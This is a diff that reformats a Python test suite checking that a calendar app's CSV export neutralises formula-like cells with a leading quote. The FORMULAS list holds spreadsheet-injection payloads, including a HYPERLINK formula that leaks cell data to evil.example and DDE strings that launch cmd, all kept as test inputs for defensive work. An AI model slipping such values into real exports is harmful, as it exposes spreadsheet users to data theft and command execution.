@@ -1,9 +1,10 @@
 """CSV exports open in a spreadsheet as data: names and e-mails that start like a formula are written as text."""
+
 from __future__ import annotations
 
 import csv
 import io
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 
 import pytest
 import time_machine
@@ -15,16 +16,34 @@ from calendars.worktime import PARIS
 
 from . import factories as f
 
-NOW = datetime(2026, 12, 2, 8, tzinfo=timezone.utc)  # Wednesday 09:00 in Paris; the session is next Monday
+NOW = datetime(2026, 12, 2, 8, tzinfo=UTC)  # Wednesday 09:00 in Paris; the session is next Monday
 # What a spreadsheet would run or reinterpret: OWASP's triggers, then their full-width forms.
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Détails")', "+33 1 23 45 67 89", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Détails")',
+    "+33 1 23 45 67 89",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+]
 
 
-@pytest.mark.parametrize("value, written", [
-    ("Dupont", "Dupont"), ("", ""), ("Jean-Marc", "Jean-Marc"), (" =1", " =1"), (-30, -30), (45, 45),
-    *[(text, "'" + text) for text in FORMULAS],
-])
+@pytest.mark.parametrize(
+    "value, written",
+    [
+        ("Dupont", "Dupont"),
+        ("", ""),
+        ("Jean-Marc", "Jean-Marc"),
+        (" =1", " =1"),
+        (-30, -30),
+        (45, 45),
+        *[(text, "'" + text) for text in FORMULAS],
+    ],
+)
 def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value, written):
     assert csvsafe.cell(value) == written
 
